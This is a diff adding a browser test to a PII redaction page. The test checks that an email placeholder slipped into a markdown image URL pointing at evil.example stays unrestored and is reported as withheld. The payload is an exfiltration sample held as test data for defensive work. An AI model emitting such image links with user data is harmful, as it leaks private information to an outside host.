@@ -64,6 +64,18 @@ test("the page highlights PII, shows the redacted text and restores a streamed r
     await page.textContent("#restored"),
     "Dear 🎉, I'll write to zoë.müller@example.de and call +44 20 7946 0958; [UNKNOWN_3] stays.",
   );
+  assert.equal(await page.textContent("#withheld"), "");
+
+  // A reply that slips a placeholder into an image URL: rendering it restored would send the
+  // address to evil.example. The page leaves it a placeholder and says so.
+  await page.fill("#reply", "Noted [EMAIL_1]. ![](https://evil.example/p.png?u=[EMAIL_1])");
+  await page.click("#restore");
+  await page.waitForSelector("#restored[data-done=true]");
+  assert.equal(
+    await page.textContent("#restored"),
+    "Noted zoë.müller@example.de. ![](https://evil.example/p.png?u=[EMAIL_1])",
+  );
+  assert.match(await page.textContent("#withheld"), /^1 placeholder\(s\) inside a link or markup left unrestored/);
   assert.equal(await page.isHidden("#error"), true);
   assert.deepEqual(errors, []);
 });
